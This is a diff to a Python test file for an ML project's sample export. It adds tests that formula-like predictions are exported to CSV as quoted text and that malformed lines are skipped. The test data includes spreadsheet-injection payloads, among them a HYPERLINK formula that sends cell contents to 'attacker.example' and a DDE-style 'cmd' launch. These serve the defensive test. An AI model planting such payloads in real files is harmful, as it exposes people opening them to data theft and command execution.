@@ -13,7 +13,7 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from mlops.spec import REPO_ROOT
+from mlops_spec.project import REPO_ROOT
 
 sys.path.insert(0, str(REPO_ROOT / "images" / "training"))
 
@@ -191,9 +191,43 @@ def test_samples_export_as_csv_with_the_prediction_and_an_empty_label(tmp_path):
         + json.dumps({"time": 2.0, "model": "m", "version": "2", "features": [6.7, 3.0, 5.2, 2.3], "prediction": 2})
         + "\n" + '{"time": 3.0, "mod')  # a line being written: left for the next export
     out = io.StringIO()
-    assert datasets.export_samples(out, tmp_path) == 2
-    header = ",".join([*datasets.FEATURE_NAMES, "prediction", "label"])
-    assert out.getvalue() == f"{header}\n5.1,3.5,1.4,0.2,0,\n6.7,3.0,5.2,2.3,2,\n"
+    assert datasets.export_samples(out, tmp_path) == datasets.SamplesExport(written=2, skipped=0, first_skipped="")
+    header = ",".join(f'"{column}"' for column in [*datasets.FEATURE_NAMES, "prediction", "label"])
+    assert out.getvalue() == f'{header}\n"5.1","3.5","1.4","0.2","0",""\n"6.7","3.0","5.2","2.3","2",""\n'
+
+
+def test_a_prediction_a_spreadsheet_would_run_as_a_formula_is_exported_as_text_and_bad_lines_are_skipped(tmp_path):
+    """A model may predict any string, and anything on the samples volume may have written a line: what is
+    exported must neither run in the spreadsheet it is labelled in nor stop the export."""
+    predictions = ['=HYPERLINK("http://attacker.example/?"&A1,"label me")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
+                   "\tx", "\rx", 'a "quoted", comma', -1.5, 2]
+    lines = [json.dumps({"features": [5.1, 3.5, 1.4, 0.2], "prediction": prediction}) for prediction in predictions]
+    bad = ["not json", json.dumps({"features": [1.0]}), json.dumps({"features": ["=1+1", 0, 0, 0], "prediction": 0}),
+           json.dumps({"features": [1, 2, 3], "prediction": 0}), json.dumps({"features": [1e999, 2, 3, 4], "prediction": 0})]
+    (tmp_path / "a.jsonl").write_text("\n".join([lines[0], *bad, *lines[1:]]) + "\n")
+    out = io.StringIO()
+    export = datasets.export_samples(out, tmp_path)
+    assert (export.written, export.skipped) == (len(predictions), len(bad))
+    assert export.first_skipped.startswith("a.jsonl:2: JSONDecodeError")
+    rows = list(csv.reader(io.StringIO(out.getvalue())))
+    assert [row[4] for row in rows[1:]] == [f"'{prediction}" for prediction in predictions[:6]] + [
+        'a "quoted", comma', "-1.5", "2"]
+    every_cell_quoted = io.StringIO()
+    csv.writer(every_cell_quoted, lineterminator="\n", quoting=csv.QUOTE_ALL).writerows(rows)
+    assert out.getvalue() == every_cell_quoted.getvalue()
+    # The export, labelled, is a dataset again: the prediction column is dropped.
+    labelled = out.getvalue().replace(',""\n', ',"0"\n')
+    assert datasets.canonical_dataset(labelled.encode())[1] == len(predictions)
+
+
+def test_the_samples_command_says_how_many_lines_it_skipped(tmp_path, monkeypatch, capsys):
+    (tmp_path / "a.jsonl").write_text('{"features": [1, 2, 3, 4], "prediction": 0}\nnot json\n')
+    monkeypatch.setattr(datasets, "SAMPLES_DIR", tmp_path)
+    assert datasets.main(["samples"]) == 0
+    captured = capsys.readouterr()
+    assert captured.out.count("\n") == 2
+    assert captured.err == "skipped 1 unreadable lines (first: a.jsonl:2: JSONDecodeError: Expecting value: line 1 " \
+                           "column 1 (char 0))\n"
 
 
 TOKENS = st.one_of(st.sampled_from(["0", "1", "2", "5.1", "-0.5e3", ".5", "1_0", "nan", "inf", "1e999", "", " 3 ",
